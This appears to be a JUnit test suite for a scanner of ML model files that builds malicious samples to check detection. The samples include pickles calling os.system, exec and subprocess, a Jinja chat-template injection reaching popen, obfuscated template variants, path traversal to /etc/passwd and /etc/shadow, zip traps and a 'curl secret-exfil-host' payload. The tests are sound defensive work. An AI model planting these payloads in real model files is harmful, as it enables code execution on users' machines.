package io.trustgate.assess.artifacts;

import static io.trustgate.assess.artifacts.Build.ascii;
import static io.trustgate.assess.artifacts.Build.concat;
import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.assess.artifacts.Build.ZipEntry;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Files the tests build themselves: each format's good and bad cases, and zip traps. */
class BuiltFilesTest {
    private final ArtifactScanner scanner = new ArtifactScanner();

    private FileVerdict scan(String name, byte[] data) {
        return scanner.scanBytes(name, data);
    }

    private static boolean has(FileVerdict v, Rule rule, Severity s) {
        return v.findings().stream().anyMatch(f -> f.rule() == rule && f.severity() == s);
    }

    private static final String GOOD_HEADER =
            "{\"__metadata__\":{\"format\":\"pt\"},\"w\":{\"dtype\":\"F32\",\"shape\":[2,2],\"data_offsets\":[0,16]},"
                    + "\"b\":{\"dtype\":\"BF16\",\"shape\":[2],\"data_offsets\":[16,20]}}";

    @Test
    void acceptsAWellFormedSafetensorsFile() {
        FileVerdict v = scan("model.safetensors", Build.safetensors(GOOD_HEADER, new byte[20]));
        assertThat(v.format()).isEqualTo("safetensors");
        assertThat(v).isInstanceOf(FileVerdict.Clean.class);
    }

    @Test
    void reportsSafetensorsShapeOffsetAndDtypeInconsistencies() {
        String header = "{\"w\":{\"dtype\":\"F32\",\"shape\":[3,2],\"data_offsets\":[0,16]},"
                + "\"x\":{\"dtype\":\"Q9\",\"shape\":[1],\"data_offsets\":[16,20]},"
                + "\"y\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[12,16]},"
                + "\"z\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[20,99]},"
                + "\"__metadata__\":{\"n\":1}}";
        FileVerdict v = scan("m.safetensors", Build.safetensors(header, new byte[20]));
        assertThat(v.findings())
                .extracting(ArtifactFinding::reason)
                .anySatisfy(r -> assertThat(r).contains("spans 16 bytes, its shape and dtype need 24"))
                .anySatisfy(r -> assertThat(r).contains("unknown dtype"))
                .anySatisfy(r -> assertThat(r).contains("overlaps"))
                .anySatisfy(r -> assertThat(r).contains("outside"))
                .anySatisfy(r -> assertThat(r).contains("__metadata__"));
        assertThat(has(v, Rule.SAFETENSORS_MALFORMED, Severity.HIGH)).isTrue();
    }

    @Test
    void flagsDuplicateSafetensorsKeys() {
        String header = "{\"w\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]},"
                + "\"w\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]}}";
        assertThat(has(
                        scan("d.safetensors", Build.safetensors(header, new byte[4])),
                        Rule.SAFETENSORS_MALFORMED,
                        Severity.HIGH))
                .isTrue();
    }

    @Test
    void findsAPickleSmuggledAfterTheLastTensor() {
        byte[] file = Build.safetensors(GOOD_HEADER, concat(new byte[20], Build.globalCall("os", "system", "id")));
        FileVerdict v = scan("model.safetensors", file);
        assertThat(has(v, Rule.SAFETENSORS_TRAILING, Severity.MEDIUM)).isTrue();
        assertThat(has(v, Rule.PICKLE_EMBEDDED, Severity.CRITICAL)).isTrue();
    }

    @Test
    void flagsASafetensorsFileThatIsAlsoAZip() {
        byte[] zip = Build.zip(new ZipEntry("archive/data.pkl", Build.globalCall("builtins", "exec", "x")));
        FileVerdict v = scan("model.safetensors", Build.safetensors(GOOD_HEADER, concat(new byte[20], zip)));
        assertThat(has(v, Rule.FORMAT_POLYGLOT, Severity.HIGH)).isTrue();
        assertThat(has(v, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
    }

    @Test
    void flagsAPickleNamedLikeASafeFormat() {
        FileVerdict v = scan("model.safetensors", Build.globalCall("os", "system", "id"));
        assertThat(has(v, Rule.FORMAT_MISMATCH, Severity.HIGH)).isTrue();
        assertThat(v.worst()).contains(Severity.CRITICAL);
    }

    @Test
    void flagsGgufChatTemplatesThatReachPythonInternals() {
        String evil = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
                + "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}";
        FileVerdict v = scan("m.gguf", Build.gguf("general.architecture", "llama", "tokenizer.chat_template", evil));
        assertThat(v.format()).isEqualTo("gguf");
        assertThat(has(v, Rule.GGUF_TEMPLATE, Severity.HIGH)).isTrue();
        assertThat(v.findings().get(0).reason()).contains("__subclasses__", "__builtins__", "popen");
    }

    @Test
    void flagsAttrFilterChainsAndEscapedUnderscores() {
        String evil = "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}";
        assertThat(has(scan("m.gguf", Build.gguf("tokenizer.chat_template", evil)), Rule.GGUF_TEMPLATE, Severity.HIGH))
                .isTrue();
    }

    @Test
    void flagsOctalEscapedUnderscoresAndNamesJoinedFromUnderscorePieces() {
        // QA pass 5 D12: both rendered __class__ in Jinja and scanned clean
        for (String evil : List.of(
                "{{ messages['\\137\\137class\\137\\137'] }}",
                "{% set x = ['_','_','cla','ss','_','_']|join %}{{ messages[x] }}",
                "{% set x = ['', '', 'class', '', '']|join('_') %}{{ messages[x] }}",
                "{{ messages['_' ~ '_class' ~ '__'] }}",
                "{{ messages['_' * 2 ~ 'class' ~ '_' * 2] }}",
                "{{ messages['\\N{LOW LINE}\\N{LOW LINE}class\\N{LOW LINE}\\N{LOW LINE}'] }}")) {
            FileVerdict v = scan("m.gguf", Build.gguf("tokenizer.chat_template", evil));
            assertThat(has(v, Rule.GGUF_TEMPLATE, Severity.HIGH)).as(evil).isTrue();
        }
        assertThat(GgufScanner.templateRisks("{{ x['\\137\\137class\\137\\137'] }}"))
                .containsExactly("octal-escaped underscore (\\137)");
    }

    @Test
    void acceptsOrdinaryTemplatesThatJoinOrSplitOnUnderscores() {
        String template = "{% for message in messages %}{{ message['content'].split(' ')|join(' ') }}"
                + "{{ message['role'].replace('_', ' ') }}{% endfor %}";
        assertThat(GgufScanner.templateRisks(template)).isEmpty();
    }

    @Test
    void acceptsAnOrdinaryChatTemplate() {
        String template = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
                + "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}";
        assertThat(scan("m.gguf", Build.gguf("general.name", "x", "tokenizer.chat_template", template)))
                .isInstanceOf(FileVerdict.Clean.class);
    }

    @Test
    void reportsGgufCountsAndLengthsThatCannotFit() {
        byte[] f = Build.gguf("general.name", "x");
        byte[] lying = f.clone();
        System.arraycopy(Build.le(Long.MAX_VALUE / 2, 8), 0, lying, 16, 8);
        assertThat(has(scan("m.gguf", lying), Rule.GGUF_MALFORMED, Severity.MEDIUM))
                .isTrue();
        byte[] huge = f.clone(); // QA pass 5 D9: 2^63 was printed as -9223372036854775808
        System.arraycopy(Build.le(Long.MIN_VALUE, 8), 0, huge, 8, 8);
        assertThat(scan("m.gguf", huge).findings())
                .anySatisfy(x -> assertThat(x.reason()).contains("tensor count 9223372036854775808 "))
                .noneSatisfy(x -> assertThat(x.reason()).contains("-9"));
        byte[] longString = f.clone();
        System.arraycopy(Build.le(1L << 40, 8), 0, longString, 24, 8);
        assertThat(has(scan("m.gguf", longString), Rule.GGUF_MALFORMED, Severity.MEDIUM))
                .isTrue();
    }

    @Test
    void flagsOnnxExternalDataOutsideTheModelFolder() {
        for (String bad : new String[] {
            "../../etc/passwd",
            "/proc/self/environ",
            "C:\\Windows\\win.ini",
            "weights/../../x.bin",
            "file:///etc/shadow"
        }) {
            FileVerdict v = scan("model.onnx", Build.onnx(bad, ""));
            assertThat(v.format()).as(bad).isEqualTo("onnx");
            assertThat(has(v, Rule.ONNX_EXTERNAL_PATH, Severity.CRITICAL))
                    .as(bad)
                    .isTrue();
        }
    }

    @Test
    void acceptsOnnxExternalDataInsideTheFolderAndNamesCustomDomains() {
        assertThat(scan("model.onnx", Build.onnx("weights/model.onnx_data", "")))
                .isInstanceOf(FileVerdict.Clean.class);
        FileVerdict custom = scan("model.onnx", Build.onnx("w.bin", "com.example.customops"));
        assertThat(has(custom, Rule.ONNX_CUSTOM_DOMAIN, Severity.LOW)).isTrue();
        assertThat(custom.worst()).contains(Severity.LOW);
    }

    @Test
    void flagsKerasLambdaLayersInKerasZipsAndHdf5() {
        byte[] keras = Build.zip(
                new ZipEntry("metadata.json", ascii("{\"keras_version\":\"3.0.0\"}")),
                new ZipEntry("config.json", ascii(Build.LAMBDA_CONFIG)),
                new ZipEntry("model.weights.h5", new byte[] {(byte) 0x89, 'H', 'D', 'F', '\r', '\n', 0x1a, '\n'}));
        FileVerdict v = scan("model.keras", keras);
        assertThat(v.format()).isEqualTo("keras");
        assertThat(has(v, Rule.KERAS_LAMBDA, Severity.CRITICAL)).isTrue();
        byte[] h5 = concat(
                new byte[] {(byte) 0x89, 'H', 'D', 'F', '\r', '\n', 0x1a, '\n'},
                new byte[300],
                ascii("model_config"),
                new byte[7],
                ascii(Build.LAMBDA_CONFIG),
                new byte[100]);
        FileVerdict hv = scan("model.h5", h5);
        assertThat(hv.format()).isEqualTo("hdf5");
        assertThat(has(hv, Rule.KERAS_LAMBDA, Severity.CRITICAL)).isTrue();
    }

    @Test
    void flagsKerasObjectsFromOutsideKeras() {
        String cfg = "{\"class_name\":\"Functional\",\"config\":{\"layers\":[{\"module\":\"evil.layers\","
                + "\"class_name\":\"Backdoor\",\"config\":{}}]}}";
        assertThat(has(scan("config.json", ascii(cfg)), Rule.KERAS_CUSTOM, Severity.MEDIUM))
                .isTrue();
    }

    @Test
    void scansTheObjectArrayPayloadOfANpyFile() {
        FileVerdict v = scan("a.npy", Build.npy("|O", "(1,)", Build.globalCall("subprocess", "run", "id")));
        assertThat(has(v, Rule.NUMPY_OBJECT, Severity.LOW)).isTrue();
        assertThat(has(v, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
        assertThat(scan("b.npy", Build.npy("<f4", "(2, 2)", new byte[16]))).isInstanceOf(FileVerdict.Clean.class);
        assertThat(has(scan("c.npy", Build.npy("<f4", "(2, 2)", new byte[12])), Rule.NUMPY_MALFORMED, Severity.MEDIUM))
                .isTrue();
    }

    @Test
    void readsPytorchZipsWithTheirUsualLayout() {
        byte[] zip = Build.zip(
                new ZipEntry("archive/data.pkl", Build.orderedDict()),
                new ZipEntry("archive/byteorder", ascii("little")),
                new ZipEntry("archive/data/0", new byte[64]),
                new ZipEntry("archive/version", ascii("3\n")));
        FileVerdict v = scan("pytorch_model.bin", zip);
        assertThat(v.format()).isEqualTo("pytorch-zip");
        assertThat(v).isInstanceOf(FileVerdict.Clean.class);
    }

    @Test
    void reportsZipTraps() {
        byte[] evil = Build.globalCall("os", "system", "id");
        FileVerdict traversal = scan("t.zip", Build.zip(new ZipEntry("../../.bashrc", ascii("x"))));
        assertThat(has(traversal, Rule.ZIP_TRAVERSAL, Severity.HIGH)).isTrue();
        FileVerdict dup =
                scan("d.zip", Build.zip(new ZipEntry("data.pkl", Build.orderedDict()), new ZipEntry("data.pkl", evil)));
        assertThat(has(dup, Rule.ZIP_DUPLICATE, Severity.HIGH)).isTrue();
        assertThat(has(dup, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
        FileVerdict hidden = scan(
                "h.zip",
                Build.zip(
                        new ZipEntry("data.pkl", "data.pkl", evil, 0, false, false),
                        new ZipEntry("ok.txt", ascii("fine"))));
        assertThat(has(hidden, Rule.ZIP_HIDDEN, Severity.HIGH)).isTrue();
        assertThat(has(hidden, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
        FileVerdict renamed = scan("r.zip", Build.zip(new ZipEntry("data.pkl", "readme.txt", evil, 0, true, false)));
        assertThat(has(renamed, Rule.ZIP_NAME_MISMATCH, Severity.HIGH)).isTrue();
        assertThat(has(renamed, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
    }

    @Test
    void findsPicklesInNestedZips() {
        byte[] inner = Build.zip(new ZipEntry("archive/data.pkl", Build.globalCall("runpy", "run_path", "x")));
        byte[] outer = Build.zip(new ZipEntry("model/checkpoint.bin", inner));
        FileVerdict v = scan("bundle.zip", outer);
        assertThat(v.findings()).anySatisfy(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.location().entry()).isEqualTo("model/checkpoint.bin!/archive/data.pkl");
        });
    }

    @Test
    void anArchiveNestedTooDeepToInspectIsHigh() {
        // QA pass 5 D13: a pickle six zips deep gave only MEDIUM "not inspected", so the default gate passed it
        byte[] b = Build.zip(new ZipEntry("archive/data.pkl", Build.globalCall("os", "system", "id")));
        for (int i = 0; i < 6; i++) {
            b = Build.zip(new ZipEntry("level" + i + ".zip", b));
        }
        FileVerdict v = scan("nested6.zip", b);
        assertThat(v.findings()).anySatisfy(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.reason()).contains("nested deeper than 4", "not inspected");
        });
        assertThat(v.findings())
                .noneMatch(f -> f.severity() == Severity.MEDIUM && f.reason().contains("nested"));
    }

    @Test
    void anEntryInACompressionMethodNotReadIsHigh() {
        // LZMA (14) entries are not decompressed here, but np.load (Python's zipfile) reads them
        byte[] b = Build.zip(new ZipEntry("arr.npy", Build.globalCall("os", "system", "id")));
        b[8] = 14; // local header method
        for (int i = b.length - 22; i >= 0; i--) {
            if (b[i] == 'P' && b[i + 1] == 'K' && b[i + 2] == 1 && b[i + 3] == 2) {
                b[i + 10] = 14; // central header method
                break;
            }
        }
        assertThat(has(scan("m.npz", b), Rule.ARCHIVE_UNSUPPORTED, Severity.HIGH))
                .isTrue();
    }

    @Test
    void stopsZipBombsAtTheRatioAndBudget() {
        byte[] zeros = new byte[64 << 20];
        byte[] bomb = Build.zip(new ZipEntry("payload.json", "payload.json", zeros, 0, true, true));
        FileVerdict v = scan("bomb.zip", bomb);
        assertThat(has(v, Rule.ZIP_BOMB, Severity.HIGH)).isTrue();
        ScanLimits tight = new ScanLimits(1 << 20, 1 << 20, 1000, 4, 10, 1_000_000, 1 << 20);
        FileVerdict capped = new ArtifactScanner(tight).scanBytes("bomb.zip", bomb);
        assertThat(has(capped, Rule.ZIP_BOMB, Severity.MEDIUM)).isTrue();
    }

    @Test
    void handlesTruncatedAndConcatenatedPickles() {
        byte[] evil = Build.globalCall("os", "system", "id");
        FileVerdict truncated = scan("t.pkl", java.util.Arrays.copyOf(evil, evil.length - 3));
        assertThat(has(truncated, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
        assertThat(has(truncated, Rule.PICKLE_MALFORMED, Severity.MEDIUM)).isTrue();
        FileVerdict appended = scan("model.pt", concat(Build.orderedDict(), Build.orderedDict(), evil));
        assertThat(has(appended, Rule.PICKLE_UNSAFE_GLOBAL, Severity.CRITICAL)).isTrue();
    }

    @Test
    void readsInstObjAndNewobjForms() {
        byte[] inst = ascii("(S'id'\nios\nsystem\n.");
        assertThat(scan("i.pkl", inst).worst()).contains(Severity.CRITICAL);
        byte[] obj = concat(
                new byte[] {(byte) 0x80, 2, '('}, ascii("csubprocess\nPopen\n"), Build.shortUnicode("id"), new byte[] {
                    'o', '.'
                });
        assertThat(scan("o.pkl", obj).worst()).contains(Severity.CRITICAL);
        byte[] newobj =
                concat(new byte[] {(byte) 0x80, 2}, ascii("cmylib\nThing\n"), new byte[] {')', (byte) 0x81, '.'});
        FileVerdict v = scan("n.pkl", newobj);
        assertThat(v.worst()).contains(Severity.MEDIUM);
        assertThat(v.findings().get(0).reason()).contains("mylib.Thing");
        assertThat(scan("u.pkl", Build.globalCall("mylib", "run", "x")).worst()).contains(Severity.HIGH);
    }

    @Test
    void readsEveryOpcodeOfAllProtocols() {
        // Protocol 2 list holding BINFLOAT, LONG1, BININT2, NEWTRUE, SHORT_BINBYTES, EMPTY_SET + ADDITEMS, FROZENSET,
        // TUPLE3 and a memo round trip; then a second pickle that calls os.system.
        byte[] benign = concat(new byte[] {
            (byte) 0x80,
            2,
            ']',
            'q',
            0,
            '(',
            'G',
            0,
            0,
            0,
            0,
            0,
            0,
            (byte) 0xf0,
            0x3f,
            (byte) 0x8a,
            1,
            5,
            'M',
            1,
            2,
            (byte) 0x88,
            'C',
            2,
            'a',
            'b',
            (byte) 0x8f,
            '(',
            'K',
            1,
            (byte) 0x90,
            '(',
            'K',
            2,
            (byte) 0x91,
            'N',
            'N',
            'N',
            (byte) 0x87,
            'h',
            0,
            'e',
            '.'
        });
        assertThat(scan("b.pkl", benign)).isInstanceOf(FileVerdict.Clean.class);
        assertThat(scan("b2.pkl", concat(benign, Build.globalCall("os", "system", "id")))
                        .worst())
                .contains(Severity.CRITICAL);
    }

    @Test
    void allowsTheCallablesOfPytorchAndNumpyCheckpoints() {
        for (String[] g : new String[][] {
            {"torch._utils", "_rebuild_tensor_v2"},
            {"torch", "FloatStorage"},
            {"collections", "OrderedDict"},
            {"numpy.core.multiarray", "_reconstruct"},
            {"numpy", "dtype"},
            {"numpy.random._pickle", "__randomstate_ctor"},
            {"_codecs", "encode"},
            {"torch", "bfloat16"}
        }) {
            assertThat(scan("ok.pkl", Build.globalCall(g[0], g[1], "x")))
                    .as(g[0] + "." + g[1])
                    .isInstanceOf(FileVerdict.Clean.class);
        }
    }

    @Test
    void describesFindingsWithoutCopyingFileContent() {
        FileVerdict v = scan("x.pkl", Build.globalCall("os", "system", "curl secret-exfil-host"));
        assertThat(v.findings()).allSatisfy(f -> assertThat(f.reason()).doesNotContain("secret-exfil-host"));
    }

    @Test
    void treatsEmptyAndTextFilesAsClean() {
        assertThat(scan("empty.bin", new byte[0])).isInstanceOf(FileVerdict.Clean.class);
        assertThat(scan("README.md", "# Model card\ncontent here\n".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(FileVerdict.Clean.class);
        assertThat(scan("tokenizer.json", ascii("{\"model\":{\"type\":\"BPE\"}}")))
                .isInstanceOf(FileVerdict.Clean.class);
    }
}
